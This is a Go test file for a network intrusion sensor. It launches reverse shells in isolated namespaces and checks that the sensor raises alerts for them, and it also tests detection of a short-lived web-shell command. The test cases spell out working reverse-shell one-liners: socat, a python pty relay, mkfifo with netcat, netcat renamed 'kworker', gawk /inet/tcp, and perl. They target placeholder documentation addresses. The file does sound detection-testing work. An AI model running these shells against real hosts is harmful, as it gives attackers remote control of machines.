package scenarios

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
	"time"

	"github.com/netsentinel/netsentinel/test/netns"
)

// Reverse shells without a socket on the shell's own stdio (issue 10 item
// 2): the shell sits on a pty or a pipe whose other end a relay holds, or the
// interpreter runs what its own connection sends. Every attack runs as root;
// the unprivileged sensor cannot read root's fds or socket owners and ties
// the connection to the relay through the relay's command line (see the
// reverse_shell rule's Sees).

// revshellCase is one reverse shell: the attack command (argv), the external
// host it calls, and what the alert must say.
type revshellCase struct {
	name, c2, port string
	udp, pty       bool
	// c2out is a second listener (port 4444) for a shell whose output
	// leaves by another connection (nc | sh | nc); either may be named.
	c2out string
	// renamed copies /bin/nc.openbsd to DIR/kworker before the attack.
	renamed    bool
	argv       func(dir string) []string
	tech, proc string
	note       string
}

func TestReverseShellRelays(t *testing.T) {
	netns.RequireTools(t, "socat", "ncat", "nc", "gawk", "perl", "python3", "mkfifo", "nsenter", "unshare")
	cases := []revshellCase{
		{
			name: "revshell_socat_pty", pty: true, c2: "198.51.100.30", port: "4444",
			argv: func(string) []string {
				return []string{"timeout", "25", "socat", "TCP:198.51.100.30:4444", "EXEC:bash -li,pty,stderr,setsid,sigint,sane"}
			},
			tech: "T1059.004", proc: "bash",
			note: "socat TCP:… EXEC:'bash -li',pty,setsid: bash leads a pty session whose master socat holds",
		},
		{
			name: "revshell_python_pty_relay", pty: true, c2: "198.51.100.31", port: "4444",
			argv: func(string) []string { return []string{"timeout", "25", "python3", "-c", pythonPTYRelay} },
			tech: "T1059.006", proc: "sh",
			note: "python3 pty.fork() relay (select loop between the socket and the pty master), sh -i on the pty",
		},
		{
			name: "revshell_python_pty_spawn", pty: true, c2: "198.51.100.36", port: "4444",
			argv: func(string) []string {
				return []string{"timeout", "25", "python3", "-c", `import socket,os,pty;s=socket.socket();s.connect(("198.51.100.36",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`}
			},
			tech: "T1059.006", proc: "sh",
			note: "python3 socket + dup2 + pty.spawn('/bin/sh') (Atomic T1059.006 #4 inside a reverse shell): sh on the pty python holds",
		},
		{
			name: "revshell_mkfifo_nc", c2: "198.51.100.32", port: "4444",
			argv: func(dir string) []string {
				f := filepath.Join(dir, "f")
				return []string{"timeout", "25", "sh", "-c", "rm -f " + f + "; mkfifo " + f + "; cat " + f + " | sh -i 2>&1 | nc 198.51.100.32 4444 > " + f}
			},
			tech: "T1059.004", proc: "sh",
			note: "mkfifo F; cat F | sh -i 2>&1 | nc … > F (netcat-openbsd)",
		},
		{
			name: "revshell_nc_pipes_renamed", c2: "198.51.100.37", c2out: "198.51.100.38", port: "4444", renamed: true,
			argv: func(dir string) []string {
				k := filepath.Join(dir, "kworker")
				return []string{"timeout", "25", "sh", "-c", k + " 198.51.100.37 4444 | sh -i 2>&1 | " + k + " 198.51.100.38 4444"}
			},
			tech: "T1059.004", proc: "sh",
			note: "kworker a 4444 | sh -i 2>&1 | kworker b 4444, kworker a copy of netcat-openbsd's nc",
		},
		{
			name: "revshell_gawk_inet", c2: "198.51.100.33", port: "4444",
			argv: func(string) []string {
				return []string{"timeout", "25", "gawk", `BEGIN { s = "/inet/tcp/0/198.51.100.33/4444"; while ((s |& getline c) > 0) { while ((c |& getline line) > 0) print line |& s; close(c) } }`}
			},
			tech: "T1059.004", proc: "gawk",
			note: "gawk /inet/tcp coprocess running each line it reads",
		},
		{
			name: "revshell_perl_io_socket", c2: "198.51.100.34", port: "4444",
			argv: func(string) []string {
				return []string{"timeout", "25", "perl", "-MIO", "-e", `$c=new IO::Socket::INET(PeerAddr,"198.51.100.34:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`}
			},
			tech: "T1059", proc: "perl",
			note: "perl -MIO -e one-liner: IO::Socket::INET, system() per line read",
		},
		{
			name: "revshell_socat_udp", c2: "198.51.100.35", port: "5353", udp: true,
			argv: func(string) []string {
				return []string{"timeout", "25", "socat", "UDP:198.51.100.35:5353", "EXEC:sh"}
			},
			tech: "T1059.004", proc: "sh",
			note: "socat UDP:… EXEC:sh: sh on a socketpair under socat's connected UDP socket",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			eachMode(t, func(t *testing.T, m mode) {
				topo := netns.New(t, 0)
				// ready: when the shell answered its first command, on the
				// connection its output leaves by (nil for the one-way UDP
				// case, timed from its start).
				var ready <-chan time.Time
				if tc.udp {
					internetHost(t, topo, tc.c2)
					bg(t, topo, topo.Cmd(ctxFor(t, 40*time.Second), topo.I, "timeout", "30", "socat", "-u", "UDP-RECV:"+tc.port+",bind="+tc.c2, "/dev/null"))
					topo.WaitBoundUDP(t, topo.I, tc.c2, tc.port)
				} else {
					ready = shellListener(t, topo, tc.c2, tc.port)
				}
				dest := destIs(tc.c2)
				if tc.c2out != "" {
					ready = shellListener(t, topo, tc.c2out, tc.port) // the output's way out
					dest = func(e map[string]any) bool { return destIs(tc.c2)(e) || destIs(tc.c2out)(e) }
				}
				dir := t.TempDir()
				if tc.renamed {
					run(t, exec.Command("cp", "/bin/nc.openbsd", filepath.Join(dir, "kworker")))
				}
				s := startSensor(t, topo, tc.name, sensorOptions{mode: m})
				argv := tc.argv(dir)
				_, start := hostStart(t, topo, 30*time.Second, argv[0], argv[1:]...)
				if ready != nil {
					start = nthProbe(t, ready, 1, 30*time.Second, tc.name+": the shell's answer "+shellReady)
				}
				e := s.expect(t, tc.name, tc.tech, start, tc.note, and(isTechnique("reverse_shell", tc.tech), dest, procIs(tc.proc)))
				wantField(t, e, "process.name", tc.proc)
				wantField(t, e, "destination.port", tc.port)
				if tc.renamed && m.Privileged {
					if r := str(e, "netsentinel.evidence.relay"); r != "kworker" {
						t.Errorf("relay %q, want the renamed nc (kworker); %s", r, describe(e))
					}
				}
				// As root the pty's master is found on the relay's fds.
				if m.Privileged && tc.pty && field(e, "netsentinel.evidence.pty_master") == nil {
					t.Errorf("root sensor did not read the pty master's holder: %s", describe(e))
				}
			})
		})
	}
}

// pythonPTYRelay connects out, runs sh -i on a new pty (pty.fork: the child
// is a session leader on the slave) and relays between the socket and the
// pty master: the socket is never on the shell's stdio.
const pythonPTYRelay = `import os, pty, select, socket, sys
s = socket.create_connection(("198.51.100.31", 4444))
pid, fd = pty.fork()
if pid == 0:
    os.execv("/bin/sh", ["sh", "-i"])
while True:
    r, _, _ = select.select([s, fd], [], [], 1.0)
    for x in r:
        try:
            data = os.read(fd, 4096) if x == fd else s.recv(4096)
        except OSError:
            sys.exit(0)
        if not data:
            sys.exit(0)
        if x == fd:
            s.sendall(data)
        else:
            os.write(fd, data)
`

// A web shell's command under a web server (a copy of bash named nginx):
// sh runs `id; uname -a` and exits within milliseconds, far less than a
// poll. Only exec events show it: the kernel's process connector, which
// needs CAP_NET_ADMIN and answers only in the machine's initial network and
// PID namespaces, so sensor and web server run there (no traffic is made).
func TestWebShellShortLived(t *testing.T) {
	netns.RequireTools(t, "ip", "id", "uname")
	eachMode(t, func(t *testing.T, m mode) {
		if !m.canSeeAs(t, "webshell_short_lived", "sh lives a few ms between two polls; exec events (netlink process connector) need CAP_NET_ADMIN") {
			return
		}
		topo := netns.New(t, 0)
		s := startSensor(t, topo, "webshell_short_lived", sensorOptions{mode: m, hostNS: true})
		if b, err := os.ReadFile(s.stderr); !bytes.Contains(b, []byte(`"proc_events":true`)) {
			t.Fatalf("the sensor did not subscribe to exec events (%v); stderr:\n%s", err, b)
		}
		// cp writes the copy, not this process (ETXTBSY, golang/go#22315).
		nginx := filepath.Join(t.TempDir(), "nginx")
		run(t, exec.Command("cp", "/bin/bash", nginx))
		const settle = 1500 * time.Millisecond
		const webshell = "id; uname -a"
		bg(t, topo, exec.CommandContext(ctxFor(t, 30*time.Second), nginx, "-c",
			fmt.Sprintf("sleep %g; sh -c '%s' >/dev/null; sleep 4; true", settle.Seconds(), webshell)))
		start := time.Now().Add(settle)
		e := s.expect(t, "webshell_short_lived", "T1059.004", start, "nginx → sh -c '"+webshell+"' living a few ms (exec events)",
			and(isTechnique("process_spawn", "T1059.004"), procIs("sh"), func(e map[string]any) bool { return hasString(e, "process.args", webshell) }))
		wantField(t, e, "process.parent.name", "nginx")
	})
}
